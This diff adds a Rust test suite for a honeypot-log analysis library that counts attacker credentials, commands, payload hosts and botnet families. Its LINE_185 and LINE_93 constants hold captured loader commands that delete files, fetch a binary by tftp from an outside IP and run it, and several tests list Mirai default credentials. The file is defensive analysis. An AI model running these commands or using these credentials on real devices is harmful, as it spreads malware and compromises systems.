@@ -1,0 +1,473 @@
+//! Library-level tests on fixtures built from the seed (see fixtures/README.md).
+
+use trawl_report::report::{Count, PairCount, Report};
+use trawl_report::{Options, ReportError, analyze};
+
+fn fixture(name: &str) -> String {
+    format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"))
+}
+
+fn run(names: &[&str]) -> Report {
+    run_with(names, &Options::default())
+}
+
+fn run_with(names: &[&str], opts: &Options) -> Report {
+    let inputs: Vec<String> = names.iter().map(|n| fixture(n)).collect();
+    match analyze(&inputs, opts) {
+        Ok(r) => r,
+        Err(e) => panic!("analyze {names:?}: {e}"),
+    }
+}
+
+fn pairs(items: &[Count]) -> Vec<(&str, u64)> {
+    items.iter().map(|c| (c.value.as_str(), c.count)).collect()
+}
+
+fn creds(items: &[PairCount]) -> Vec<(&str, &str, u64, Option<&str>)> {
+    items
+        .iter()
+        .map(|p| (p.username.as_str(), p.password.as_str(), p.count, p.label))
+        .collect()
+}
+
+const LINE_185: &str =
+    "cd /var/tmp;cd /tmp;rm -f *;tftp -l 7up -r 7up -g 185.35.139.97;chmod a+x 7up;./7up";
+const LINE_93: &str = "cd /tmp;rm -f *;tftp -l 7up -r 7up -g 93.190.142.201;chmod a+x 7up;./7up";
+
+#[test]
+fn seed_rows_top_tables_match_a_csvcut_recount() {
+    let r = run(&["seed_heralding.csv"]);
+    assert_eq!(r.totals.events, 19);
+    assert_eq!(r.totals.bad_rows, 0);
+    assert_eq!(
+        pairs(&r.top_sources),
+        [
+            ("218.191.87.87", 10),
+            ("46.118.141.45", 4),
+            ("37.115.145.181", 2),
+            ("77.105.72.253", 1),
+            ("82.50.48.173", 1),
+            ("89.121.167.211", 1)
+        ]
+    );
+    assert_eq!(
+        pairs(&r.top_usernames),
+        [
+            ("root", 8),
+            ("enable", 3),
+            ("shell", 3),
+            ("Admin", 2),
+            (LINE_185, 2),
+            (LINE_93, 1)
+        ]
+    );
+    assert_eq!(
+        pairs(&r.top_passwords),
+        [
+            ("5up", 7),
+            ("system", 6),
+            ("sh", 3),
+            ("123456", 1),
+            ("klv123", 1),
+            ("tl789", 1)
+        ]
+    );
+    assert_eq!(
+        r.protocols,
+        [Count {
+            value: "telnet".into(),
+            count: 19
+        }]
+    );
+    assert_eq!(
+        r.ports,
+        [Count {
+            value: "23".into(),
+            count: 19
+        }]
+    );
+    let (first, last) = r.time_range.clone().unwrap_or_default();
+    assert_eq!(
+        (first.as_str(), last.as_str()),
+        ("2016-12-14 21:50:14", "2016-12-14 22:54:25")
+    );
+}
+
+#[test]
+fn seed_rows_commands_are_told_from_credentials() {
+    let r = run(&["seed_heralding.csv"]);
+    assert_eq!(r.totals.credential_attempts, 10);
+    assert_eq!(r.totals.command_entries, 9);
+    // enable/shell usernames and system/sh passwords are commands, not credentials.
+    assert_eq!(
+        pairs(&r.top_credential_usernames),
+        [("root", 8), ("Admin", 2)]
+    );
+    assert_eq!(
+        pairs(&r.top_credential_passwords),
+        [("5up", 7), ("123456", 1), ("klv123", 1), ("tl789", 1)]
+    );
+    assert_eq!(
+        creds(&r.top_credentials),
+        [
+            ("root", "5up", 5, Some("iot-default")),
+            ("Admin", "5up", 2, None),
+            ("root", "123456", 1, Some("mirai")),
+            ("root", "klv123", 1, Some("mirai")),
+            ("root", "tl789", 1, Some("iot-default")),
+        ]
+    );
+    let kinds: Vec<(&str, &str)> = r
+        .top_pairs
+        .iter()
+        .map(|p| (p.username.as_str(), p.kind))
+        .collect();
+    assert!(kinds.contains(&("enable", "command")) && kinds.contains(&("shell", "command")));
+    assert!(kinds.contains(&(LINE_185, "command")) && kinds.contains(&("root", "credential")));
+    assert_eq!(
+        pairs(&r.top_commands),
+        [
+            ("system", 6),
+            ("enable", 3),
+            ("sh", 3),
+            ("shell", 3),
+            (LINE_185, 2),
+            (LINE_93, 1)
+        ]
+    );
+    assert_eq!(r.iot.mirai_default_attempts, 2);
+    assert_eq!(r.iot.iot_default_attempts, 6);
+}
+
+#[test]
+fn seed_rows_payload_hosts_families_sessions() {
+    let r = run(&["seed_heralding.csv"]);
+    let hosts: Vec<(&str, u64, u64)> = r
+        .payload_hosts
+        .iter()
+        .map(|p| (p.host.as_str(), p.attempts, p.scanners))
+        .collect();
+    assert_eq!(hosts, [("185.35.139.97", 2, 1), ("93.190.142.201", 1, 1)]);
+    let p = &r.payload_hosts[0];
+    assert_eq!(p.methods, ["tftp"]);
+    assert_eq!(p.files, ["7up"]);
+    assert_eq!(p.scanner_sample, ["46.118.141.45"]);
+    assert_eq!(
+        creds(&p.credentials),
+        [
+            ("Admin", "5up", 1, None),
+            ("root", "5up", 1, Some("iot-default"))
+        ]
+    );
+    assert_eq!(p.first_seen.as_deref(), Some("2016-12-14 22:12:34"));
+    let fams: Vec<(&str, u64)> = r
+        .iot
+        .families
+        .iter()
+        .map(|f| (f.family, f.sources))
+        .collect();
+    assert_eq!(
+        fams,
+        [("brute force", 3), ("unknown loader", 2), ("Mirai", 1)]
+    );
+    assert_eq!(r.sessions.total, 10);
+    assert_eq!(r.sessions.by_session_id, 10);
+    assert_eq!(r.sessions.mirai_sequence, 3);
+    assert_eq!(r.sessions.with_commands, 6);
+    assert_eq!(r.sessions.with_downloads, 3);
+    assert_eq!(r.downloads.len(), 2);
+}
+
+#[test]
+fn seed_rows_campaigns_flag_the_tiny_7up_dictionary() {
+    let r = run(&["seed_heralding.csv"]);
+    let seven_up = r
+        .campaigns
+        .iter()
+        .find(|c| c.source_sample.contains(&"46.118.141.45".to_string()))
+        .unwrap_or_else(|| panic!("no 7up campaign in {:#?}", r.campaigns));
+    assert_eq!(seven_up.source_sample, ["37.115.145.181", "46.118.141.45"]);
+    assert_eq!(seven_up.family, "unknown loader");
+    assert_eq!(seven_up.distinct_credentials, 2);
+    assert_eq!(seven_up.payload_hosts, ["185.35.139.97", "93.190.142.201"]);
+    assert!(
+        seven_up
+            .flags
+            .iter()
+            .any(|f| f.starts_with("tiny-unknown-dictionary")),
+        "{:?}",
+        seven_up.flags
+    );
+    let mirai = r
+        .campaigns
+        .iter()
+        .find(|c| c.source_sample == ["218.191.87.87"])
+        .unwrap_or_else(|| panic!("{:#?}", r.campaigns));
+    assert_eq!(mirai.family, "Mirai");
+    assert!(
+        mirai.flags.is_empty(),
+        "Mirai's dictionary is known: {:?}",
+        mirai.flags
+    );
+    // With identical fingerprints only, the two 7up scanners stay apart.
+    let strict = run_with(
+        &["seed_heralding.csv"],
+        &Options {
+            jaccard: 1.0,
+            ..Options::default()
+        },
+    );
+    assert!(
+        strict.campaigns.iter().all(|c| !(c.source_sample.len() == 2
+            && c.source_sample.contains(&"46.118.141.45".to_string())))
+    );
+}
+
+#[test]
+fn seven_up_campaign_reproduces_the_seed_pipeline() {
+    // The seed: 338 scanners pushed 89.33.64.118; their rows hold 693 tftp lines for it,
+    // 350 Admin,5up and 347 root,5up, plus 2 lines each for 89.33.64.117 and 86.105.1.109.
+    let r = run(&["seed_7up.csv"]);
+    let host = r
+        .payload_hosts
+        .iter()
+        .find(|p| p.host == "89.33.64.118")
+        .unwrap_or_else(|| panic!("{:#?}", r.payload_hosts));
+    assert_eq!((host.attempts, host.scanners), (693, 338));
+    assert_eq!(
+        creds(&host.credentials),
+        [
+            ("Admin", "5up", 350, None),
+            ("root", "5up", 347, Some("iot-default"))
+        ]
+    );
+    let others: Vec<(&str, u64)> = r
+        .payload_hosts
+        .iter()
+        .map(|p| (p.host.as_str(), p.attempts))
+        .collect();
+    assert_eq!(
+        others,
+        [
+            ("89.33.64.118", 693),
+            ("86.105.1.109", 2),
+            ("89.33.64.117", 2)
+        ]
+    );
+    assert_eq!(r.campaigns.len(), 1);
+    let c = &r.campaigns[0];
+    assert_eq!((c.sources, c.distinct_credentials), (338, 2));
+    assert!(
+        c.flags.iter().any(|f| f.contains("only 2 credential pair")),
+        "{:?}",
+        c.flags
+    );
+}
+
+#[test]
+fn every_heralding_layout_and_gzip_give_the_same_counts() {
+    let whole = run(&["seed_heralding.csv"]);
+    let split = run(&["heralding_9col.csv", "heralding_11col.csv.gz"]);
+    assert_eq!(split.inputs.len(), 2);
+    assert!(
+        split.inputs[0].format.contains("9 columns"),
+        "{}",
+        split.inputs[0].format
+    );
+    assert!(
+        split.inputs[1].format.contains("11 columns") && split.inputs[1].format.contains("gzip")
+    );
+    assert_eq!(split.totals.events, 19);
+    assert_eq!(split.top_usernames, whole.top_usernames);
+    assert_eq!(split.top_credentials, whole.top_credentials);
+    assert_eq!(split.sessions.total, whole.sessions.total);
+    let with_sessions = run(&["seed_heralding.csv", "log_session.csv"]);
+    assert_eq!(with_sessions.sessions.total, 10);
+    assert_eq!(with_sessions.totals.login_prompt_entries, 19);
+    assert!(with_sessions.inputs[1].format.contains("session CSV"));
+}
+
+#[test]
+fn cowrie_sample() {
+    let r = run(&["cowrie.json"]);
+    assert_eq!(r.totals.bad_rows, 0);
+    assert_eq!(r.totals.login_prompt_entries, 4);
+    assert_eq!(r.totals.logins_succeeded, 3);
+    assert_eq!(r.totals.shell_commands, 9);
+    assert_eq!(r.totals.recorded_downloads, 2);
+    assert_eq!(r.sessions.total, 3);
+    assert_eq!(r.sessions.mirai_sequence, 1);
+    let fam = |ip: &str| {
+        r.campaigns
+            .iter()
+            .find(|c| c.source_sample.contains(&ip.to_string()))
+            .map(|c| c.family)
+    };
+    assert_eq!(fam("198.51.100.7"), Some("Mirai"));
+    assert_eq!(fam("198.51.100.23"), Some("Gafgyt"));
+    assert_eq!(fam("203.0.113.200"), Some("Hajime"));
+    let hosts: Vec<&str> = r.payload_hosts.iter().map(|p| p.host.as_str()).collect();
+    assert!(
+        hosts.contains(&"203.0.113.66")
+            && hosts.contains(&"192.0.2.77")
+            && hosts.contains(&"192.0.2.99"),
+        "{hosts:?}"
+    );
+    let gafgyt = r
+        .payload_hosts
+        .iter()
+        .find(|p| p.host == "203.0.113.66")
+        .map(|p| p.methods.clone())
+        .unwrap_or_default();
+    assert_eq!(gafgyt, ["wget", "curl", "tftp", "ftpget", "http"]);
+    let tokens = pairs(&r.iot.busybox_tokens);
+    assert!(
+        tokens.contains(&("MIRAI", 1)) && tokens.contains(&("ECCHI", 1)),
+        "{tokens:?}"
+    );
+    let durations: Vec<f64> = r.sessions.top.iter().map(|s| s.duration_seconds).collect();
+    assert!(
+        durations.contains(&15.321) && durations.contains(&12.5),
+        "{durations:?}"
+    );
+}
+
+#[test]
+fn opencanary_sample() {
+    let r = run(&["opencanary.json"]);
+    assert_eq!(r.totals.bad_rows, 0);
+    assert_eq!(r.totals.login_prompt_entries, 5);
+    assert_eq!(pairs(&r.protocols), [("ssh", 3), ("ftp", 1), ("telnet", 1)]);
+    assert_eq!(r.sessions.by_session_id, 0);
+    assert_eq!(r.sessions.by_time_gap, 4);
+    let xc = r
+        .top_credentials
+        .iter()
+        .find(|p| p.password == "xc3511")
+        .map(|p| p.label);
+    assert_eq!(xc, Some(Some("mirai")));
+}
+
+#[test]
+fn malformed_rows_are_counted_with_file_and_line() {
+    let r = run(&["malformed.csv", "malformed.jsonl"]);
+    let shown: Vec<(String, u64)> = r
+        .bad_rows
+        .shown
+        .iter()
+        .map(|b| {
+            (
+                b.file.rsplit('/').next().unwrap_or_default().to_string(),
+                b.line,
+            )
+        })
+        .collect();
+    let expect: Vec<(String, u64)> = [
+        ("malformed.csv", 3),
+        ("malformed.csv", 4),
+        ("malformed.csv", 5),
+        ("malformed.csv", 9),
+        ("malformed.jsonl", 2),
+        ("malformed.jsonl", 3),
+        ("malformed.jsonl", 4),
+        ("malformed.jsonl", 5),
+        ("malformed.jsonl", 6),
+    ]
+    .iter()
+    .map(|(f, l)| (f.to_string(), *l))
+    .collect();
+    assert_eq!(shown, expect);
+    assert_eq!(r.bad_rows.total, 9);
+    assert!(
+        r.bad_rows.shown[0]
+            .reason
+            .contains("expected 10 columns, found 9"),
+        "{:?}",
+        r.bad_rows.shown[0]
+    );
+    assert!(r.bad_rows.shown[1].reason.contains("bad timestamp"));
+    assert!(r.bad_rows.shown[2].reason.contains("bad source_ip"));
+    // The quoted multi-line row and the row with control characters are read.
+    assert_eq!(r.totals.events, 6);
+    assert!(r.top_usernames.iter().any(|c| c.value == "multi\nline"));
+    let strict = analyze(
+        &[fixture("malformed.csv")],
+        &Options {
+            strict: true,
+            ..Options::default()
+        },
+    );
+    match strict {
+        Err(ReportError::BadRow { file, line, reason }) => {
+            assert!(
+                file.ends_with("malformed.csv") && line == 3,
+                "{file}:{line}: {reason}"
+            );
+        }
+        other => panic!("expected a strict failure, got {other:?}"),
+    }
+}
+
+#[test]
+fn filters_select_rows() {
+    use trawl_report::Filters;
+    let since = trawl_report::time::parse_bound("2016-12-14 22:00:00");
+    let opts = Options {
+        filters: Filters {
+            since,
+            ..Filters::default()
+        },
+        ..Options::default()
+    };
+    let r = run_with(&["seed_heralding.csv"], &opts);
+    assert_eq!(r.totals.events, 9);
+    assert_eq!(r.totals.filtered_out, 10);
+    let net = "46.118.0.0/16".parse().ok();
+    let opts = Options {
+        filters: Filters {
+            sources: net.into_iter().collect(),
+            ..Filters::default()
+        },
+        ..Options::default()
+    };
+    assert_eq!(run_with(&["seed_heralding.csv"], &opts).totals.events, 4);
+    let opts = Options {
+        filters: Filters {
+            protocols: vec!["ssh".into()],
+            ..Filters::default()
+        },
+        ..Options::default()
+    };
+    assert_eq!(
+        run_with(&["seed_heralding.csv", "opencanary.json"], &opts)
+            .totals
+            .login_prompt_entries,
+        3
+    );
+    let opts = Options {
+        top: 2,
+        ..Options::default()
+    };
+    assert_eq!(
+        run_with(&["seed_heralding.csv"], &opts).top_sources.len(),
+        2
+    );
+}
+
+#[test]
+fn missing_and_unknown_inputs_are_errors() {
+    assert!(matches!(
+        analyze(&[fixture("nope.csv")], &Options::default()),
+        Err(ReportError::NoInput(_))
+    ));
+    assert!(matches!(
+        analyze(&[fixture("*.nothing")], &Options::default()),
+        Err(ReportError::NoInput(_))
+    ));
+    assert!(matches!(
+        analyze(&[fixture("README.md")], &Options::default()),
+        Err(ReportError::UnknownFormat { .. })
+    ));
+    let globbed = run(&["seed_*.csv"]);
+    assert_eq!(globbed.inputs.len(), 2);
+}
